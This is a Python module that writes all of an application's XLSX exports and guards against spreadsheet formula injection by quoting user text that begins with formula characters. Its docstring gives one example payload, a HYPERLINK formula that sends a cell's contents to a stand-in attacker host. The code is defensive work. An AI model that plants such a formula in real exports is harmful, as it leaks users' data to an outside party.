"""The one way the app writes XLSX files: every cell from user data is inert text.

A value a user typed (a unit name, a chair's address) can start with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return; a spreadsheet would take it for a formula
(``=HYPERLINK("http://evil.example/?leak="&A1)``) when the file is opened, or when a
reader edits the cell, or once the sheet is saved as CSV. As OWASP recommends for
CSV/XLSX injection, such a text is prefixed with a single quote, and a cell is never
written as a formula. Every export builds its workbook, rows and cells here
(``tests/test_xlsx.py`` fails if any other module writes a workbook itself).
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from io import BytesIO
from typing import IO, TYPE_CHECKING, Any
from zipfile import ZIP_DEFLATED, ZipFile

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.utils import get_column_letter

if TYPE_CHECKING:
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NEUTRALISING_PREFIX = "'"


def neutralise(value: Any) -> Any:
    """``"=1+1"`` → ``"'=1+1"``; numbers, dates and other text are left as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return NEUTRALISING_PREFIX + value
    return value


def restore(text: str) -> str:
    """The inverse of ``neutralise`` for text read back from an export (an import of
    an exported list gets the values that were exported, not the quoted ones)."""
    if text.startswith(NEUTRALISING_PREFIX) and text[1:].startswith(FORMULA_TRIGGERS):
        return text[1:]
    return text


def workbook() -> Workbook:
    """A write-only workbook: rows are streamed, so a large export stays small in memory."""
    return Workbook(write_only=True)


def cell(ws: WriteOnlyWorksheet, value: Any, style: str | None = None) -> Cell:
    """A styled cell holding ``value`` as data, never as a formula."""
    written = WriteOnlyCell(ws, value=neutralise(value))
    if written.data_type == "f":
        # openpyxl takes any text starting with "=" as a formula; neutralise() already
        # prefixed such text, so this only guards against a future change of the triggers.
        written.data_type = "s"
    if style is not None:
        written.style = style
    return written


def append(ws: WriteOnlyWorksheet, values: Iterable[Any]) -> None:
    """Append a row of plain values or cells made by ``cell``; text is neutralised."""
    ws.append([value if isinstance(value, Cell) else neutralise(value) for value in values])


def stream_rows(ws: WriteOnlyWorksheet, rows: Iterable[Sequence[Any]]) -> None:
    """Write ``rows`` (plain numbers and text) after the rows already appended, when the
    workbook is saved (``to_bytes``), and stretch the sheet's filter over them.

    For lists of a hundred thousand lines: openpyxl spends ~25 µs on each cell it writes,
    so these rows go straight into the sheet's XML, a chunk at a time, never held. Text is
    neutralised as everywhere else (and stripped of characters XML cannot hold)."""
    ws._streamed_rows = rows  # type: ignore[attr-defined]


def to_bytes(wb: Workbook) -> bytes:
    buffer = BytesIO()
    wb.save(buffer)
    streamed = {ws.path.lstrip("/"): ws for ws in wb.worksheets if hasattr(ws, "_streamed_rows")}
    if not streamed:
        return buffer.getvalue()
    out = BytesIO()
    # The fastest deflate: a streamed sheet is tens of megabytes of repetitive XML, which
    # level 1 packs a little less tightly in a fraction of the default level's time.
    with ZipFile(buffer) as saved, ZipFile(out, "w", ZIP_DEFLATED, compresslevel=1) as written:
        for item in saved.infolist():
            if item.filename not in streamed:
                written.writestr(item, saved.read(item.filename))
                continue
            ws = streamed[item.filename]
            with written.open(item.filename, "w", force_zip64=True) as part:
                _write_streamed(part, saved.read(item.filename).decode(), ws._streamed_rows)
    return out.getvalue()


_ROWS_PER_WRITE = 1000
_DIMENSION = re.compile(r"<dimension [^>]*/>")
_FILTER = re.compile(r'(<autoFilter ref="[A-Z]+\d+:[A-Z]+)\d+(")')


def _write_streamed(part: IO[bytes], sheet: str, rows: Iterable[Sequence[Any]]) -> None:
    head, tail = sheet.split("</sheetData>", 1)
    head = _DIMENSION.sub("", head)
    number = len(re.findall(r"<row ", head))
    part.write(head.encode())
    letters: list[str] = []
    chunk: list[str] = []
    for values in rows:
        number += 1
        while len(letters) < len(values):
            letters.append(get_column_letter(len(letters) + 1))
        chunk.append(_row_xml(number, values, letters))
        if len(chunk) == _ROWS_PER_WRITE:
            part.write("".join(chunk).encode())
            chunk = []
    part.write("".join(chunk).encode())
    part.write(("</sheetData>" + _FILTER.sub(rf"\g<1>{number}\2", tail)).encode())


# Text that needs more than copying: characters XML cannot hold, or markup to escape.
_NOT_PLAIN = re.compile(r"[\000-\010\013\014\016-\037&<>]")


def _text_xml(value: str) -> str:
    """``value`` neutralised and escaped for an inline string; most text is plain, and
    a single search finds that out before any replacement is made."""
    if value.startswith(FORMULA_TRIGGERS):
        value = NEUTRALISING_PREFIX + value
    if _NOT_PLAIN.search(value) is None:
        return value
    return ILLEGAL_CHARACTERS_RE.sub("", value).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _row_xml(number: int, values: Sequence[Any], letters: list[str]) -> str:
    cells = []
    for letter, value in zip(letters, values, strict=False):
        if isinstance(value, str):
            if value:
                text = _text_xml(value)
                cells.append(f'<c r="{letter}{number}" t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>')
        elif type(value) is int or type(value) is float:
            cells.append(f'<c r="{letter}{number}" t="n"><v>{value}</v></c>')
        elif value is not None:
            raise TypeError(value)
    return f'<row r="{number}">{"".join(cells)}</row>'
